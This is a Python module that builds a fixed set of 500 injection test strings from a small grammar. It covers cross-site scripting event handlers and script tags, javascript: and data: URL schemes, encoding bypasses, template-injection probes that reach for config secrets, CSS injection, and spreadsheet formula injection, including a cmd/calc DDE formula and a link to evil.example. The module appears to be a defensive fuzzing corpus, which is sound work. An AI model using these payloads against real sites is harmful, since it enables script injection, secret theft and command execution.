"""Five hundred texts that would run, load or change something if a page took them for anything but text.

Made from a small grammar: what breaks out of the place where a text stands, what would run there, and how it may be
spelt. The same ones each time.
"""

from __future__ import annotations

import random
from collections.abc import Callable

NUMBER = 500
RAN = "zq9"
"""the global that is set where one of them runs, and the address that is asked for where one loads"""
PRODUCT = str(7919 * 7907)
"""what a template language would make of the expressions below"""

DEEDS = (
    f"window.{RAN}=1", "alert(9)", "confirm(9)", f"top['{RAN}']=1", f"self.{RAN}=1;print()", f"fetch('/{RAN}')",
    f"Function('window.{RAN}=1')()", f"setTimeout('window.{RAN}=1')", f"import('/{RAN}')", "prompt`9`",
    f"new Image().src='/{RAN}'", f"document.body.id='{RAN}'", f"eval(atob('d2luZG93LnpxOT0x'))//{RAN}",
)
OUT = (
    "", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</option></select>", "</svg>", "]]>", "`>", '"/>',
    "</style>", "</noscript>", "</template>", "</iframe>", "\\\">", "</audio>", "</pre></code>", '"]}</script>',
)
ELEMENTS = (
    ("img", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"), ("input", "autofocus", "onfocus"),
    ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"), ("details", "open", "ontoggle"),
    ("marquee", "", "onstart"), ("iframe", "", "onload"), ("div", "tabindex=1 autofocus", "onfocus"),
    ("object", "data=x", "onerror"), ("link", "rel=stylesheet href=x", "onerror"), ("select", "autofocus", "onfocus"),
    ("math", "", "onmouseover"), ("style", "", "onload"), ("button", "autofocus", "onfocus"),
    ("svg><animate", "attributeName=x dur=1s", "onbegin"), ("video><source", "src=x", "onerror"),
)
HOLDERS = (
    "<a href={q}{url}{q}>x</a>", "<iframe src={q}{url}{q}></iframe>",
    "<form action={q}{url}{q}><button>x</button></form>", "<button form=x formaction={q}{url}{q}>x</button>",
    "<object data={q}{url}{q}></object>", "<embed src={q}{url}{q}>",
    "<svg><a xlink:href={q}{url}{q}><text y=9>x</text></a></svg>", "<base href={q}{url}{q}>",
    "<meta http-equiv=refresh content={q}0;url={url}{q}>", "<link rel=import href={q}{url}{q}>",
    "<img src={q}{url}{q}>",
    "<iframe srcdoc={q}<script>{deed}</script>{q}></iframe>", "<script src={q}{url}{q}></script>",
    "<svg><use href={q}{url}{q}/></svg>", "<math><mi href={q}{url}{q}>x</mi></math>",
    "<portal src={q}{url}{q}></portal>",
)
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "&#x6A;avascript&colon;", " javascript:",
    "vbscript:", "data:text/html,<script>", "//evil.example/", "jav&NewLine;ascript:", "\x01javascript:",
    "feed:javascript:",
)
TEMPLATES = (
    "{{7919*7907}}", "{% print(7919*7907) %}", "${7919*7907}", "#{7919*7907}", "<%= 7919*7907 %>", "[[7919*7907]]",
    "*{7919*7907}", "@(7919*7907)", "{{config.SECRET_KEY}}", "{{request.application}}", "{{self.__init__}}",
    "{{cycler.__init__.__globals__}}", "{#7919*7907#}", "{7919*7907}", "%(name)s{name}", "{0.__class__}", "{{[]|map}}",
    "{%for c in [7919]%}{{c*7907}}{%endfor%}", "${{7919*7907}}", "{{=7919*7907}}",
)
STYLES = (
    f"<style>@import'/{RAN}';</style>", f"<style>*{{background:url(/{RAN})}}</style>",
    f'" style="background:url(/{RAN})', "<p style=position:fixed;inset:0>over everything</p>",
    f"<link rel=stylesheet href=/{RAN}>",
    f"' style='width:expression(window.{RAN}=1)", "<style>body{display:none}</style>",
    f"</style><style>@font-face{{src:url(/{RAN})}}</style>", "<div class=masthead style=all:unset>",
)
SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text, str.upper, str.swapcase,
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "&#60").replace(">", "&#62"),
    lambda text: text.replace("<", "<\u200b"), lambda text: text.replace("=", " = "),
    lambda text: text.replace("<", "&amp;lt;"),
)
FORMULAS = (
    f'=HYPERLINK("http://evil.example/{RAN}")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1+1",
    " =1+1", "=cmd|' /C calc'!A0", '";=1+1', "%0A=1+1", "'=1+1", "=DDE(1)", "＠SUM(1)", "－1+1",
)


def _handler(chance: random.Random) -> str:
    tag, more, event = chance.choice(ELEMENTS)
    gap, quote = chance.choice((" ", "/", "\t", "\n", " /", "  ")), chance.choice(("", "'", '"', "`"))
    end = chance.choice((">", "/>", " //", "><!--", ""))
    deed = chance.choice(DEEDS)
    return f"{chance.choice(OUT)}<{tag}{gap}{more}{gap}{event}={quote}{deed}{quote}{end}"


def _attribute(chance: random.Random) -> str:
    quote = chance.choice(("'", '"', "`"))
    _, _, event = chance.choice(ELEMENTS)
    return f"x{quote} autofocus {event}={quote}{chance.choice(DEEDS)}{quote} y={quote}"


def _script(chance: random.Random) -> str:
    deed, out = chance.choice(DEEDS), chance.choice(OUT)
    return out + chance.choice((
        "<script>{d}</script>", "<script>{d}//", "<<script>{d}//<</script>", "<scr<script>ipt>{d}</scr</script>ipt>",
        "<script\n>{d}</script\n>", "<svg><script>{d}</script>", "<script type=module>{d}</script>",
        "<!--><script>{d}</script>",
        "<![CDATA[<script>{d}</script>]]>", "<math><style><img src=x onerror={d}>",
        "<noscript><p title='</noscript><img src=x onerror={d}>'>",
        "<template><script>{d}</script></template>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={d}>",
        "';{d};'", '";{d};"', "\\';{d}//", "</script><script>{d}</script>", "${{{d}}}", "*/{d}/*", "\u2028{d}\u2028",
    )).format(d=deed)


def _address(chance: random.Random) -> str:
    deed = chance.choice(DEEDS)
    holder = chance.choice(HOLDERS)
    quote = chance.choice(("'", '"', ""))
    return chance.choice(OUT) + holder.format(q=quote, url=chance.choice(SCHEMES) + deed, deed=deed)


def _bare_address(chance: random.Random) -> str:
    return chance.choice(SCHEMES) + chance.choice(DEEDS)


def _spelt(chance: random.Random) -> str:
    return chance.choice(SPELLINGS[1:])(chance.choice((_handler, _script, _address))(chance))


def _everything(chance: random.Random) -> str:
    """Out of many places at once."""
    outs = chance.sample(OUT[1:], 5)
    return "/*".join(outs) + _handler(chance)


MAKERS: tuple[tuple[int, Callable[[random.Random], str]], ...] = (
    (140, _handler), (60, _attribute), (80, _script), (90, _address), (15, _bare_address), (45, _spelt),
    (24, _everything),
)


def payloads() -> tuple[str, ...]:
    chance = random.Random(9)
    found: dict[str, None] = dict.fromkeys((*TEMPLATES, *STYLES, *FORMULAS))
    for wanted, maker in MAKERS:
        aim = len(found) + wanted
        while len(found) < aim:
            found.setdefault(maker(chance))
    made = list(found)
    chance.shuffle(made)
    return tuple(made[:NUMBER])
